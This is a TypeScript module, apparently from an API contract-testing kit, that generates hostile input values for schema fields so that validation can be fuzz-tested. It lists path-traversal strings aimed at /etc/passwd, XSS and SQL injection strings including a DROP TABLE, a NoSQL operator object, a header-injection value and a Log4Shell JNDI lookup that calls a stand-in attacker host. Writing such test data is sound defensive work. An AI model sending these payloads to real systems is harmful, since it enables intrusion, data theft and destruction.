import type { Schema } from '@ehp/contract-kit/src/contract.ts';
import { resolve } from '@ehp/contract-kit/src/schema-sample.ts';

// Hostile values for one field, grouped by the kind of abuse. Whether a value is invalid is not
// decided here: the schema decides (a script tag is a valid name; it must then be stored as text).

export interface BadValue {
  kind: string;
  label: string;
  value: unknown;
}

export const LONG_STRING = 'a'.repeat(100_000);

export const TRAVERSALS = [
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '/etc/passwd%00.png',
];

export const INJECTIONS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1' --",
  '1; DROP TABLE users; --',
  '${jndi:ldap://attacker.invalid/a}',
  '{{7*7}}<%= 7*7 %>',
];

export const UNICODE = [
  '\u0000',
  'a\u0007\u001b[31mred\u001b[0m',
  '\u202egnp.exe',
  '\ud800',
  '😀'.repeat(20),
  'Ω≈ç√∫ 你好 مرحبا',
  '\r\n\tX-Injected: 1',
  '\ufeffname',
  'Z\u0351\u0352\u0353\u0354\u0355\u0356',
];

const WRONG_TYPES: [string, unknown][] = [
  ['string', 'text'],
  ['integer', 12345],
  ['float', 1.5],
  ['boolean', true],
  ['null', null],
  ['object', { $gt: '' }],
  ['array', ['x']],
];

function typeOf(schema: Schema): string {
  if (Array.isArray(schema.enum)) return typeof schema.enum[0] === 'number' ? 'integer' : 'string';
  return String(schema.type ?? 'string');
}

/** Values of every other type than the schema's. */
function wrongTypes(type: string): BadValue[] {
  const same = (label: string) => label === type || (type === 'number' && (label === 'integer' || label === 'float'));
  return WRONG_TYPES.filter(([label]) => !same(label)).map(([label, value]) => ({ kind: 'wrong-type', label, value }));
}

function outOfRange(schema: Schema, type: string): BadValue[] {
  if (type !== 'integer' && type !== 'number') return [];
  const out: BadValue[] = [];
  if (typeof schema.maximum === 'number')
    out.push({ kind: 'out-of-range', label: `maximum+1 (${schema.maximum + 1})`, value: schema.maximum + 1 });
  if (typeof schema.minimum === 'number')
    out.push({ kind: 'out-of-range', label: `minimum-1 (${schema.minimum - 1})`, value: schema.minimum - 1 });
  out.push(
    { kind: 'out-of-range', label: '2^53', value: 2 ** 53 },
    { kind: 'out-of-range', label: '-1e308', value: -1e308 },
  );
  if (Array.isArray(schema.enum))
    out.push({ kind: 'out-of-range', label: 'not in enum', value: Math.max(...(schema.enum as number[])) + 1 });
  return out;
}

/** Every hostile value for one field. `identifier` adds path traversal (ids, names, codes). */
export function badValues(doc: unknown, fieldSchema: Schema | undefined, identifier: boolean): BadValue[] {
  const schema = resolve(doc, fieldSchema);
  const type = typeOf(schema);
  const strings = (kind: string, list: string[]) =>
    list.map((value, i) => ({ kind, label: `${kind} #${i + 1}`, value }));
  return [
    ...wrongTypes(type),
    { kind: 'long-string', label: '100,000 characters', value: LONG_STRING },
    ...outOfRange(schema, type),
    ...strings('unicode', UNICODE),
    ...strings('injection', INJECTIONS),
    ...(identifier ? strings('traversal', TRAVERSALS) : []),
  ];
}

/** Fields that name a record or a file: ids, names, codes and PMDC numbers. */
export const isIdentifier = (name: string): boolean => /(^id$|_id$|_ids$|name$|_code$|^pmdc$|^email$)/.test(name);
